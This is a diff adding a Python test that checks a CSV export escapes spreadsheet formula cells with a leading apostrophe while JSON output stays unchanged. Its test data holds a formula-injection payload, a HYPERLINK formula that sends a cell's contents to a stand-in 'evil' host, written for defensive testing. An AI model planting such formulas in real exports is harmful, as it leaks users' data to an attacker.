@@ -86,6 +86,31 @@ async def test_an_empty_list_and_a_failed_export(demo, tmp_path: Path) -> None: 
     assert sorted(p.name for p in tmp_path.iterdir()) == ["half.csv", "none.csv", "none.json"], "no half file"
 
 
+FORMULAS = ['=HYPERLINK("http://evil"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+async def test_csv_cells_that_start_a_formula_are_quoted_and_json_is_unchanged(tmp_path: Path) -> None:
+    """A spreadsheet runs a CSV cell starting with = + - @ (or tab / CR before one) as a
+    formula: such text cells get a leading apostrophe in CSV; JSON keeps the value as stored."""
+    from stores.models import User
+
+    users = [User(id=f"u{i}", tenant_id="t", username=f"user{i}", email=f"u{i}@x.test", full_name=name,
+                  metadata={"note": name})
+             for i, name in enumerate([*FORMULAS, "Plain Name", "a=b"])]
+
+    async def fetch(after: str | None, limit: int) -> Page[User]:
+        return Page(users, None)
+
+    assert await export_rows(fetch, tmp_path / "users.csv") == len(users)
+    with (tmp_path / "users.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["full_name"] for row in rows] == [f"'{name}" for name in FORMULAS] + ["Plain Name", "a=b"]
+    assert rows[0]["metadata"].startswith("{") and rows[0]["id"] == "u0", "JSON cells and plain text untouched"
+    await export_rows(fetch, tmp_path / "users.json")
+    shown = json.loads((tmp_path / "users.json").read_text(encoding="utf-8"))
+    assert [row["full_name"] for row in shown] == [*FORMULAS, "Plain Name", "a=b"]
+
+
 async def test_the_palette_finds_tenants_apps_and_users_by_prefix(demo) -> None:  # noqa: ANN001
     found = await find_entities(demo, "glob")
     assert [(f.kind, f.text) for f in found][:1] == [("tenant", "globex")]
